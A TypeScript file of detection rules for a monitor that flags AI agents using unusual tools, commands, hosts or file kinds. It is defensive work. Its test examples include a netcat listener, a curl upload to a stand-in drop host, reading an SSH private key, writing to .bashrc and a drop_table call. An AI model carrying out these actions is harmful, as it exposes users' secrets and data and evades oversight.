import type { BaselineRule } from '../rule.ts';
import { BASE, ORDINARY } from './base.ts';

/** What an agent has not used before: tools, commands, places, kinds of files. */
export const NEWNESS_RULES: readonly BaselineRule[] = [
  {
    ...BASE,
    code: 'D-01',
    id: 'baseline.new-tool',
    title: 'Agent uses tools that are not usual for it',
    why: 'A tool that was never needed before can be the work of an instruction that did not come from you.',
    falsePositives: ['a newly installed MCP server', 'a new kind of task'],
    taxonomies: { attack: [], atlas: [], owasp: ['ASI02', 'ASI10'] },
    bundles: ['MON', 'ACC'],
    examples: {
      hit: [
        {
          name: 'a tool of a server that was used for other things only',
          usual: [{ mcp: 'db', tool: 'query' }, ...ORDINARY],
          then: [{ mcp: 'db', tool: 'drop_table' }],
        },
        { name: 'a web tool where none was used', then: [{ fetch: 'https://example.com/a' }] },
      ],
      miss: [
        {
          name: 'the tools of every day',
          guards: 'ordinary work',
          usual: [{ mcp: 'db', tool: 'query' }, ...ORDINARY],
          then: [{ mcp: 'db', tool: 'query' }, { shell: 'git status' }],
        },
        {
          name: 'a usual tool, used for something new',
          guards: 'counting one novelty in two places',
          then: [{ read: '/home/dev/app/src/new.ts' }],
        },
      ],
    },
  },
  {
    ...BASE,
    code: 'D-02',
    id: 'baseline.new-verb',
    title: 'Agent runs commands that are not usual for it',
    why: 'Attackers bring their own commands; the ones of daily work repeat.',
    falsePositives: ['a first release or migration', 'a new tool chain'],
    taxonomies: { attack: ['T1059'], atlas: [], owasp: ['ASI02', 'ASI10'] },
    bundles: ['MON'],
    examples: {
      hit: [
        { name: 'a network tool of attackers', then: [{ shell: 'nc -l 4444' }] },
        { name: 'a new verb of a usual program', then: [{ shell: 'git filter-branch --all' }] },
      ],
      miss: [
        {
          name: 'a usual command with other arguments',
          guards: 'arguments, which are new all the time',
          then: [{ shell: 'npm test -- --run other' }],
        },
        {
          name: 'a new command of somebody who has one every day',
          guards: 'punishing those who explore',
          exploring: true,
          then: [{ shell: 'newthing --help' }],
        },
      ],
    },
  },
  {
    ...BASE,
    code: 'D-03',
    id: 'baseline.new-destination',
    title: 'Agent talks to hosts or repositories that are not usual for it',
    why: 'Data leaves, and foreign instructions come in, through places that were not used before.',
    falsePositives: ['a new dependency or service', 'reading documentation'],
    taxonomies: { attack: ['T1071'], atlas: [], owasp: ['ASI10'] },
    bundles: ['MON', 'DLP'],
    examples: {
      hit: [
        {
          name: 'an upload to a host nobody used',
          then: [{ shell: 'curl -T a.txt https://drop.example.net/a' }],
        },
        { name: 'an address without a name', then: [{ shell: 'curl http://192.0.2.7/x' }] },
      ],
      miss: [
        {
          name: 'another name of a usual domain',
          guards: 'hosts that come and go within one service',
          usual: [{ fetch: 'https://a.example.com/' }, ...ORDINARY],
          then: [{ fetch: 'https://b.example.com/' }],
        },
        {
          name: 'a server on this machine',
          guards: 'local work',
          usual: [{ shell: 'curl http://localhost:3000/' }, ...ORDINARY],
          then: [{ shell: 'curl http://127.0.0.1:8080/' }],
        },
      ],
    },
  },
  {
    ...BASE,
    code: 'D-04',
    id: 'baseline.new-path-class',
    title: 'Agent touches kinds of files it does not usually touch',
    why: 'Work stays in the project. Secrets, start-up files and other projects are what an attacker looks for.',
    falsePositives: ['setting up a machine', 'debugging the tool chain'],
    taxonomies: { attack: ['T1083', 'T1552'], atlas: [], owasp: ['ASI03', 'ASI10'] },
    bundles: ['MON', 'SEC'],
    examples: {
      hit: [
        { name: 'a private key', then: [{ read: '/home/dev/.ssh/id_ed25519' }] },
        { name: 'a start-up file of the shell', then: [{ write: '/home/dev/.bashrc', content: 'x' }] },
      ],
      miss: [
        {
          name: 'a new file of the project',
          guards: 'ordinary work',
          then: [{ write: '/home/dev/app/src/b.ts', content: 'x' }],
        },
        {
          name: 'environment files where they are read every day',
          guards: 'what is usual here',
          usual: [{ read: '/home/dev/app/.env' }, ...ORDINARY],
          then: [{ read: '/home/dev/app/packages/api/.env' }],
        },
      ],
    },
  },
];
